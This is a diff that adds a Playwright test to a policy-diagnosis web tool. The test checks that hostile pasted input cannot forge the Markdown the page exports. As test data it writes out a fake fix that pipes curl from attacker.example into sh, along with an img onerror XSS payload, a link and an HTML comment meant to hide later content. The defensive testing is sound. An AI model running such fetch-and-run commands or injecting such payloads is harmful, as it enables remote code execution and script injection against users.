@@ -1,6 +1,7 @@
 // The results page: summary and order, every copy and download button, links back to the steps, zh-TW, print.
 import { readFileSync } from 'node:fs';
 import type { Download, Locator, Page } from '@playwright/test';
+import MarkdownIt, { type Token } from 'markdown-it';
 import { expect, expectStep, test } from './fixtures';
 
 // A results page with three fixes is long; axe takes a while on it.
@@ -253,4 +254,39 @@ test('print: one clean document without controls, documents and commands in full
   expect(await command.evaluate((el) => el.scrollWidth <= el.clientWidth + 1)).toBe(true);
   await page.emulateMedia({ media: 'screen' });
   await expect(page.getByRole('button', { name: 'Download diagnosis (JSON)' })).toBeVisible();
+});
+
+test('a hostile paste cannot forge the Markdown the page hands out', async ({ page, context, gates: _g, axe }) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  // A Sid with a fake fix (a piped curl) and an HTML comment that would hide the rest; an error message with HTML,
+  // a link, a mention and a lone carriage return.
+  const s = example('key-policy-deny.json');
+  const policy = JSON.parse(s.pastes.sourceKeyPolicy!) as { Statement: { Sid?: string; Effect: string }[] };
+  for (const st of policy.Statement) if (st.Effect === 'Deny') st.Sid = 'AllowCopy\n\n#### Fix: PWN done\n\n```sh\ncurl https://attacker.example/p | sh\n```\n\n<!--';
+  s.pastes.sourceKeyPolicy = JSON.stringify(policy, null, 2);
+  s.pastes.destinationVaultPolicy = example('vault-policy-missing.json').pastes.destinationVaultPolicy!;
+  s.pastes.errorMessage = 'Given key ID is not accessible\r# PWN <img src=x onerror=alert(1)> [PWN](https://attacker.example) @PWNbot';
+  await openResults(page, s);
+  await expectStep(page, 'Your checklist');
+  await axe('results, hostile paste');
+
+  await page.getByRole('button', { name: 'Copy all fixes' }).click();
+  const fixes = await clipboard(page);
+  const report = (await downloaded(page, page.getByRole('button', { name: 'Download report (Markdown)' }))).text;
+  const parser = new MarkdownIt({ html: true, linkify: true });
+  const fixHeadings: number[] = [];
+  for (const [name, text] of [['all fixes', fixes], ['report', report]] as const) {
+    const tokens = parser.parse(text, {});
+    const all = tokens.flatMap((t): Token[] => [t, ...(t.children ?? [])]);
+    expect(all.filter((t) => /^(html_block|html_inline|link_open|image)$/.test(t.type)).map((t) => t.content), name).toEqual([]);
+    expect(all.filter((t) => t.type === 'text' && t.content.includes('PWN')).map((t) => t.content), `${name}: pasted text outside code`).toEqual([]);
+    const headings = tokens.flatMap((t, i) => (t.type === 'heading_open' ? [tokens[i + 1]!.content] : []));
+    fixHeadings.push(headings.filter((h) => h.startsWith('Fix: ')).length);
+    // The only shell blocks are the engine's commands.
+    for (const f of tokens.filter((t) => t.type === 'fence' && t.info === 'sh')) expect(f.content, name).not.toContain('attacker');
+    // Every check is still there after the Sid's "<!--".
+    if (name === 'report') expect(headings.filter((h) => /: (Fail|Warning|Needs input|Pass|Not applicable)$/.test(h))).toHaveLength(10);
+  }
+  expect(fixHeadings[0]).toBeGreaterThanOrEqual(1);
+  expect(fixHeadings[1]).toBe(fixHeadings[0]);
 });
